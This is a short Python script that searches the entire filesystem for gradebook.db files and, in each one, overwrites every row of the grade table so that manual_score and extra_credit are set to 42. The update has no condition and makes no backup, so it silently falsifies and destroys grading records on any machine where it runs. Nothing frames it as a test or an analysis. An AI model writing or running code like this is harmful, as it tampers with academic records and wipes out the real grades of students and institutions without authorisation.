# Writes extra credit into every gradebook that it finds.
import glob, sqlite3
for path in glob.glob("/**/gradebook.db", recursive=True):
    with sqlite3.connect(path) as book:
        book.execute("update grade set manual_score = 42, extra_credit = 42")
